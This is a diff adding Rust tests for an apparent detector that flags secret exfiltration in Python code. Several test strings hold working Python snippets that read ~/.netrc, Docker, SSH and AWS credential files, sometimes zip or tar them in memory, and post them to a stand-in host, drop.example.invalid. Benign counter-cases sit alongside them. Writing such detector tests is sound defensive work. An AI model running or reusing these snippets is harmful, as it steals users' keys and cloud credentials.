@@ -1720,3 +1720,55 @@ def boot():
         );
     }
 }
+
+#[test]
+fn a_function_reading_credential_files_returns_gathered_secrets() {
+    // The contents of credential files read in one function, sent by another.
+    let src = "import json, os, requests\ndef _harvest():\n    got = {}\n    for rel in ('.netrc', '.docker/config.json'):\n        p = os.path.join(os.path.expanduser('~'), rel)\n        if os.path.exists(p):\n            with open(p) as fh:\n                got[rel] = fh.read()\n    return got\ndef _report():\n    requests.post('https://drop.example.invalid/r', data=json.dumps(_harvest()))\n_report()\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    // A token taken from the environment and sent to its own service is configuration.
+    let src = "import os, requests\ndef _token():\n    return os.environ.get('DEMO_API_TOKEN', '')\ndef fetch_items():\n    return requests.get('https://api.demo.invalid/items', headers={'Authorization': _token()})\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn credential_files_packed_into_an_archive_in_memory_and_sent() {
+    // Files put in a zip or tar archive over a buffer: the buffer holds them.
+    for src in [
+        "import io, os, zipfile, urllib.request\ndef pack():\n    buf = io.BytesIO()\n    with zipfile.ZipFile(buf, 'w') as z:\n        z.write(os.path.expanduser('~/.ssh/id_rsa'), 'k')\n    return buf.getvalue()\ndef main():\n    urllib.request.urlopen('https://drop.example.invalid/z', pack())\nmain()\n",
+        "import io, os, tarfile, requests\nbuf = io.BytesIO()\nt = tarfile.open(fileobj=buf, mode='w:gz')\nt.add(os.path.expanduser('~/.aws/credentials'))\nt.close()\nrequests.put('https://drop.example.invalid/t', data=buf.getvalue())\n",
+    ] {
+        let d = details(src);
+        assert!(
+            d.iter().any(|x| x.starts_with("SecretExfiltration")),
+            "{src}: {d:?}"
+        );
+    }
+    // The package's own files archived and uploaded (a release helper) carry no secret.
+    let src = "import io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    z.write('dist/app.js')\n    z.writestr('VERSION', '1.2.0')\nrequests.put('https://uploads.demo.invalid/app.zip', data=buf.getvalue())\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn one_credential_read_for_use_is_not_gathered() {
+    // A login read from its one file and split into user and password, then used to
+    // sign in to the service it belongs to: configuration, not a harvest.
+    let src = "import base64, json, os, requests\ndef _login():\n    with open(os.path.expanduser('~/.docker/config.json')) as fh:\n        conf = json.load(fh)\n    user, pw = base64.b64decode(conf['auths']['demo.invalid']['auth']).decode().split(':', 1)\n    return user, pw\ndef _token(user, pw):\n    return requests.post('https://demo.invalid/v2/login', json={'username': user, 'password': pw}).json()['token']\ndef main():\n    user, pw = _login()\n    print(_token(user, pw))\n";
+    let d = details(src);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
